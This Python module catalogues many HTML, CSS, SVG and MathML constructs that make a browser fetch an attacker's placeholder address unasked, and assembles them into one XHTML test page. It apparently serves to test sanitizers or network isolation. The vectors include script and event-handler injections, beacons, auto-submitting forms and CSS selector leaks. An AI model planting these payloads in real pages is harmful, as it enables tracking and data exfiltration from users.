"""Every way we know in which a document makes a browser fetch something without being asked.

``@`` stands for an address of the attacker's.
"""
# ruff: noqa: E501 -- a vector reads better on one line

from __future__ import annotations

HEAD = """
<link rel="stylesheet" href="@"/> <link rel="alternate stylesheet" href="@"/> <link rel="preload" as="image" href="@"/>
<link rel="preload" as="script" href="@"/> <link rel="preload" as="font" crossorigin="" href="@"/>
<link rel="modulepreload" href="@"/> <link rel="prefetch" href="@"/> <link rel="prerender" href="@"/>
<link rel="preconnect" href="@"/> <link rel="preconnect" crossorigin="" href="@"/> <link rel="dns-prefetch" href="@"/>
<link rel="icon" href="@"/> <link rel="shortcut icon" href="@"/> <link rel="apple-touch-icon" href="@"/>
<link rel="mask-icon" href="@"/> <link rel="manifest" href="@"/> <link rel="import" href="@"/> <link rel="pingback" href="@"/>
<link rel="search" type="application/opensearchdescription+xml" href="@"/> <link rel="next" href="@"/> <link rel="canonical" href="@"/>
<link rel="compression-dictionary" href="@"/> <link rel="expect" href="@"/> <link rel="stylesheet" type="text/xsl" href="@"/>
<meta http-equiv="refresh" content="0; url=@"/> <meta http-equiv="Link" content="&lt;@&gt;; rel=preload; as=image"/>
<meta http-equiv="Content-Security-Policy" content="report-uri @"/> <meta http-equiv="Set-Cookie" content="a=b"/>
<meta http-equiv="accept-ch" content="dpr"/> <meta name="msapplication-TileImage" content="@"/> <meta property="og:image" content="@"/>
<script src="@"></script> <script type="module" src="@"></script> <script type="speculationrules">{"prefetch":[{"source":"list","urls":["@"]}]}</script>
<script type="importmap">{"imports":{"x":"@"}}</script> <script>fetch("@"); new Image().src = "@"; navigator.sendBeacon("@"); new WebSocket("@".replace("http", "ws")); new EventSource("@"); import("@"); open("@"); location = "@"; new Worker("@"); new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1"}]}).createDataChannel("x")</script>
<style>@import "@";</style> <style>@import url(@) screen;</style> <style>@import url("@") layer(x);</style>
<style>@font-face { font-family: leak; src: url("@") } body { font-family: leak }</style>
<style>body { background: url("@") }</style> <style>p { background-image: image-set(url("@") 1x) }</style>
<style>p { background-image: -webkit-image-set(url("@") 1x) }</style> <style>p { background-image: cross-fade(url("@"), url("@"), 50%) }</style>
<style>p { list-style-image: url("@"); display: list-item }</style> <style>p { border-image: url("@") 1 }</style>
<style>p { cursor: url("@"), auto }</style> <style>p::before { content: url("@") }</style> <style>p { mask: url("@") }</style>
<style>p { mask-image: url("@#x") }</style> <style>p { clip-path: url("@#x") }</style> <style>p { filter: url("@#x") }</style>
<style>p { shape-outside: url("@"); float: left }</style> <style>p { offset-path: url("@#x") }</style>
<style>:root { --a: url("@") } p { background: var(--a) }</style> <style>@namespace x url("@");</style>
<style>@page { background: url("@") }</style> <style>@media screen { p { background: url("@") } }</style>
<style>@supports (display: grid) { p { background: url("@") } }</style> <style>@container (width > 0) { p { background: url("@") } }</style>
<style>input[value^="a"] { background: url("@") }</style> <style>p:first-letter { background: url("@") }</style>
<style>a:visited { background: url("@") }</style> <style>::selection { background: url("@") }</style> <style>@counter-style x { symbols: url("@") } p { list-style: x }</style>
"""

BODY = """
<img src="@"/> <img srcset="@ 1x, @ 2x"/> <img lowsrc="@"/> <img dynsrc="@"/> <img longdesc="@"/> <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='@'/%3E%3C/svg%3E"/>
<picture><source srcset="@"/><img/></picture> <image src="@"/> <input type="image" src="@"/> <input value="a"/> <body background="@"></body>
<table background="@"><tr background="@"><td background="@">x</td></tr></table> <p style="background: url('@')">x</p> <p style="content: url(@)">x</p>
<audio src="@" autoplay="" preload="auto"></audio> <audio><source src="@"/></audio> <video src="@" autoplay="" muted=""></video> <video poster="@"></video>
<video><source src="@"/><track src="@" default=""/></video> <object data="@"></object> <object type="text/html" data="@"></object>
<object><param name="movie" value="@"/></object> <object classid="@" codebase="@"></object> <object archive="@"></object> <embed src="@"/> <embed src="@" type="application/pdf"/>
<applet code="x" codebase="@"></applet> <iframe src="@"></iframe> <iframe srcdoc="&lt;img src='@'&gt;"></iframe> <iframe src="data:text/html,&lt;img src='@'&gt;"></iframe>
<iframe src="javascript:fetch('@')"></iframe> <frameset><frame src="@"/></frameset> <portal src="@"></portal> <fencedframe src="@"></fencedframe>
<form action="@"><input autofocus="" onfocus="this.form.submit()"/></form> <form><button formaction="@">x</button></form> <isindex action="@"/>
<a href="@" ping="@">x</a> <a href="@" attributionsrc="@">x</a> <img attributionsrc="@" src="x.png"/> <base href="@"/> <blockquote cite="@">x</blockquote> <q cite="@">x</q> <del cite="@">x</del>
<command icon="@"/> <menu><menuitem icon="@"/></menu> <bgsound src="@"/> <xml src="@"></xml> <div datasrc="@"></div>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="@"/><image xlink:href="@"/><use href="@#x"/><use xlink:href="@#x"/><feImage href="@"/><script href="@"/><filter id="f"><feImage xlink:href="@"/></filter><rect width="9" height="9" filter="url(@#x)" fill="url(@#x)" stroke="url(@#x)"/><a href="@"><text>x</text></a><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="@"/></foreignObject><style>@import "@";</style><animate href="@"/><set attributeName="href" to="@"/><color-profile xlink:href="@"/><font-face-uri href="@"/><cursor href="@"/><mpath href="@"/><textPath href="@">x</textPath><pattern href="@"/><linearGradient href="@"/><tref xlink:href="@"/><altGlyph xlink:href="@"/></svg>
<math xmlns="http://www.w3.org/1998/Math/MathML" href="@"><mi href="@">x</mi><mglyph src="@"/></math>
<template shadowrootmode="open"><img src="@"/><style>@import "@";</style></template> <noscript><img src="@"/></noscript> <script>fetch("@")</script>
<details ontoggle="fetch('@')" open=""><summary>x</summary></details> <img src="x" onerror="fetch('@')"/> <p onmouseover="fetch('@')">x</p> <marquee onstart="fetch('@')">x</marquee> <video onloadstart="fetch('@')" src="x"></video>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('@')"></svg> <input autofocus="" onfocus="fetch('@')"/> <style onload="fetch('@')"></style> <body onload="fetch('@')"></body> <dialog open="" onclose="fetch('@')">x</dialog>
<p style="--a: url(@); background: var(--a)">x</p> <p style="background: \\75\\72\\6c(@)">x</p> <p style="behavior: url(@)">x</p> <p style="-moz-binding: url(@#x)">x</p> <link rel="stylesheet" href="@"/> <meta http-equiv="refresh" content="0;@"/> <style>@import "@";</style>
"""


def document(address: str) -> bytes:
    """One XHTML document with all of them, well formed."""
    head = HEAD.replace("@import", "%IMPORT").replace("@font", "%FONT").replace("@page", "%PAGE")
    for rule in ("media", "supports", "container", "namespace", "counter-style"):
        head = head.replace(f"@{rule}", f"%{rule}")
    body = BODY.replace("@import", "%IMPORT")
    text = (head + "\0" + body).replace("@", address.replace("&", "&amp;"))
    for mark, rule in (("%IMPORT", "@import"), ("%FONT", "@font"), ("%PAGE", "@page")):
        text = text.replace(mark, rule)
    for rule in ("media", "supports", "container", "namespace", "counter-style"):
        text = text.replace(f"%{rule}", f"@{rule}")
    head, body = text.split("\0")
    return (
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title>'
        f"{head}</head><body><p>Text.</p>{body}</body></html>"
    ).encode()


def count() -> int:
    """How many addresses a document of them names."""
    return document("\x01").count(b"\x01")
